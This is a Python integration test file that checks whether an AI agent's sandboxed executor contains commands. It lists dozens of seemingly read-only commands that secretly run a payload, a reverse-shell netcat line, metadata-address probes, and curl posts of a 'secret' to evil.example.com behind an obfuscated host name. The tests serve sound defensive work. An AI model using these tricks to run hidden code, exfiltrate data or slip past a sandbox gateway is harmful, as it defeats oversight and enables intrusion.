"""Class: commands that look as if they only read, and run something else.

Nothing here tries to tell good commands from bad: each of them runs, in a real container, and the
test shows that it did. What it ran reaches nothing outside.
"""

from __future__ import annotations

import asyncio
import shlex
import socket
from typing import TYPE_CHECKING

import psutil

from core.tasks import TaskState
from tests.integration.executors.test_host import Bench, a_bench

if TYPE_CHECKING:
    from pathlib import Path

# `p` is the payload; the folder holds a repository `r`, a tar `t.tar`, `one/f` and `parts/p`.
WRAPPERS = r"""
env -i N=$N sh -c ./p
env ./p
env -S ./p
find one -exec ./p \;
find one -execdir /work/p \;
yes | find one -ok ./p \;
tar -cf /dev/null one --checkpoint=1 --checkpoint-action=exec=./p
tar -xf t.tar --to-command=./p
tar -cf x.tar -I ./p one
tar --use-compress-program=./p -tf t.tar
tar -cf x.tar --rsh-command=./p h:x
git -C r -c core.fsmonitor=/work/p status
git -C r -c alias.x='!/work/p' x
git -C r -c diff.external=/work/p diff
git -C r -c core.sshCommand=/work/p ls-remote ssh://h/x
git -C r -c core.hooksPath=/work/hooks -c user.name=a -c user.email=a@b commit --allow-empty -m x
git -C r -c core.editor=/work/p -c user.name=a -c user.email=a@b commit --amend
echo url=https://h | git -c credential.helper='!/work/p' credential fill
git -C r grep --open-files-in-pager=/work/p one
git -C r -c protocol.ext.allow=always ls-remote ext::/work/p
git -C r ls-remote --upload-pack=/work/p .
GIT_EXTERNAL_DIFF=/work/p git -C r diff
GIT_SSH_COMMAND=/work/p git ls-remote ssh://h/x
GIT_PAGER=/work/p git -C r -p log </dev/null
script -qc 'git -C r -c core.pager=/work/p log' /dev/null
script -qc ./p /dev/null
sed -n '1e ./p' one/f
sed 's/.*/.\/p/e' one/f
awk 'BEGIN{system("./p")}'
awk 'BEGIN{"./p"|getline}'
awk 'BEGIN{print 1 | "./p"}'
echo x | xargs -I{} ./p
ls one | xargs -n1 ./p
python3 -c 'import os; os.system("./p")'
python3 -m timeit -n1 -r1 'import os; os.system("./p")'
PYTHONPATH=/work/site python3 -c pass
perl -e 'system("./p")'
perl -ne 'BEGIN{exec "./p"}' one/f
PERL5LIB=/work/site PERL5OPT=-MPay perl -e 1
BASH_ENV=/work/p bash -c true
ENV=/work/p sh -i -c true </dev/null
bash --rcfile /work/p -i -c true </dev/null
bash -O extglob -c ./p
source ./p
eval ./p
exec -a ls ./p
command ./p
builtin command ./p
trap ./p EXIT
echo $(./p)
cat <(./p)
test -v 'a[$(./p)]'
[[ 'a[$(./p)]' -eq 1 ]]
printf -v 'a[$(./p)]' x
coproc ./p; wait
timeout 5 ./p
nice ./p
nohup ./p
setsid -w ./p
stdbuf -o0 ./p
flock lock ./p
taskset 1 ./p
ionice -c3 ./p
chrt -i 0 ./p
prlimit --nofile=64 ./p
run-parts parts
split --filter=./p one/f
install -s --strip-program=/work/p one/f g
rg --pre ./p one one/f
jq -n 'env' && ./p
/lib64/ld-linux-x86-64.so.2 /bin/bash ./p
unshare -r ./p
nsenter -t 1 -a ./p
chroot / /work/p
su -c ./p
mount --bind / /mnt
tee MARK </dev/null
cp one/f MARK
dd if=one/f of=MARK
curl -sS -o MARK file:///etc/hostname
ln -sf MARK link && echo x >link
more +!./p one/f
busybox sh -c ./p
vim -es -c ':!./p' -c q
less +!./p one/f
ssh -o ProxyCommand=./p h
rsync -e ./p one h:x
man -P ./p ls
nc -e ./p ADDRESS PORT
""".strip().splitlines()
RAN_AT_LEAST = 55
PAYLOAD = """#!/bin/bash
touch /work/ran/$N
for m in MARKS; do mkdir -p "${m%/*}"; echo changed >"$m"; rm -f "$m"; done
for a in 127.0.0.1/PORT 172.17.0.1/PORT 169.254.169.254/80 1.1.1.1/443; do
    (exec 3<>/dev/tcp/$a) && touch /work/out/$N-${a%/*}
done
true
"""
PREPARE = """
mkdir -p ran out one parts hooks site; echo text >one/f; tar -cf t.tar one
printf %s PAYLOAD_TEXT >p; chmod +x p; cp p parts/p; cp p hooks/pre-commit
echo 'import os; os.system("/work/p")' >site/sitecustomize.py
echo 'system("/work/p"); 1;' >site/Pay.pm
git init -q r; echo one >r/f; git -C r add f
git -C r -c user.name=a -c user.email=a@b commit -qm first; echo more >>r/f
"""
ABSTRACT = (
    "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0NAME\")'"
    " && touch out/abstract"
)


def script(marks: list[Path], port: int, name: str) -> str:
    payload = PAYLOAD.replace("MARKS", " ".join(map(str, marks))).replace("PORT", str(port))
    lines = ["exec 2>/dev/null", PREPARE.replace("PAYLOAD_TEXT", shlex.quote(payload))]
    for number, line in enumerate(WRAPPERS):
        real = line.replace("MARK", str(marks[0])).replace("ADDRESS", "172.17.0.1")
        run = shlex.quote(real.replace("PORT", str(port)))
        lines.append(f"export N={number}; timeout -k 1 10 bash -c {run} >/dev/null </dev/null")
    lines += [ABSTRACT.replace("NAME", name), "sleep 0.2"]
    lines.append("echo ran $(ls ran); echo out $(ls out); echo sock $(ls -A /run/agentai)")
    lines.append("echo tcp $(awk '$4 == \"0A\" {print $2}' /proc/net/tcp /proc/net/tcp6)")
    return "\n".join(lines)


def listening(pid: int) -> set[str]:
    found = psutil.Process(pid).net_connections(kind="inet")
    return {str(c.laddr) for c in found if c.status == psutil.CONN_LISTEN}


async def test_whatever_wraps_a_command_nothing_outside_the_container_notices(
    tmp_path: Path, database_url: str, redis_url: str, executor_image: str
) -> None:
    assert executor_image
    marks = [tmp_path / "home" / "host-marker", tmp_path / "marks" / "marker"]
    calls: list[object] = []
    name = f"agentai-canary-{tmp_path.name}"
    async with a_bench(tmp_path, database_url, redis_url) as bench:
        for mark in marks:
            mark.parent.mkdir(exist_ok=True)
            mark.write_text("untouched")
        server = await asyncio.start_server(lambda *c: calls.append(c), "127.0.0.1", 0)
        with socket.socket(socket.AF_UNIX) as abstract:
            abstract.bind(f"\0{name}")
            abstract.listen()
            abstract.setblocking(False)
            told = await run_all(bench, script(marks, server.sockets[0].getsockname()[1], name))
            is_met = False
            try:
                abstract.accept()[0].close()
                is_met = True
            except BlockingIOError:
                pass
        server.close()
        await server.wait_closed()
    assert [m.read_text() for m in marks] == ["untouched"] * len(marks)
    assert calls == []
    assert not is_met
    numbers = {int(n) for n in told["ran"].split()}
    missing = [WRAPPERS[n] for n in range(len(WRAPPERS)) if n not in numbers]
    assert len(numbers) >= RAN_AT_LEAST, missing
    assert told["out"] == ""
    assert set(told["sock"].split()) == {"ca.pem", "host.sock", "proxy.sock"}
    assert told["tcp"] == "0100007F:0C38"  # the relay inside, on its own loopback


REACHING = r"""
curl -sS https://$H/x
env -i https_proxy=http://127.0.0.1:3128 curl -sS -d secret https://$H/x
curl -sS --proxy-header 'Host: localhost' -x http://127.0.0.1:3128 https://$H/x
curl -sS --noproxy '*' --resolve $H:443:127.0.0.1 https://$H/x
git ls-remote https://$H/x
python3 -c "import os, urllib.request as r; r.urlopen('https://' + os.environ['H'] + '/x')"
printf 'CONNECT %s:443 HTTP/1.1\r\nX-Ok: 1\r\nHost: %s:443\r\n\r\n' $H $H >/dev/tcp/localhost/3128
"""


async def test_no_wrapper_talks_the_gateway_into_a_host_that_nobody_granted(
    tmp_path: Path, database_url: str, redis_url: str, executor_image: str
) -> None:
    assert executor_image
    calls: list[object] = []
    server = await asyncio.start_server(lambda *c: calls.append(c), "127.0.0.1", 0)
    pin = f"evil.example.com=127.0.0.1:{server.sockets[0].getsockname()[1]}"
    async with a_bench(tmp_path, database_url, redis_url, GATEWAY_PINS=pin) as bench:
        bench.executor.start()
        await bench.executor.ready()
        name = "export H=evil; H=$H.exam; H=${H}ple.com\n"  # never in the owner's words as it is
        done = await bench.until(await bench.queue(f"{name}{REACHING}\necho $H"), timeout_s=60)
        kinds = await bench.database.fetch("select kind from audit where kind = 'effect.intent'")
        assert await bench.database.fetchval("select count(*) from grants") == 0
    server.close()
    await server.wait_closed()
    assert "evil.example.com" in (done.result or "")
    assert "may not read from evil.example.com yet" in (done.result or "")
    assert calls == []
    assert kinds == []


async def run_all(bench: Bench, text: str) -> dict[str, str]:
    bench.executor.start()
    await bench.executor.ready()
    before = listening(bench.executor.pid)
    done = await bench.until(await bench.queue(text), timeout_s=100)
    assert done.state is TaskState.DONE, f"{done.reason}\n{done.result}"
    assert listening(bench.executor.pid) == before == set()
    lines = (done.result or "").splitlines()
    return {line.partition(" ")[0]: line.partition(" ")[2] for line in lines}
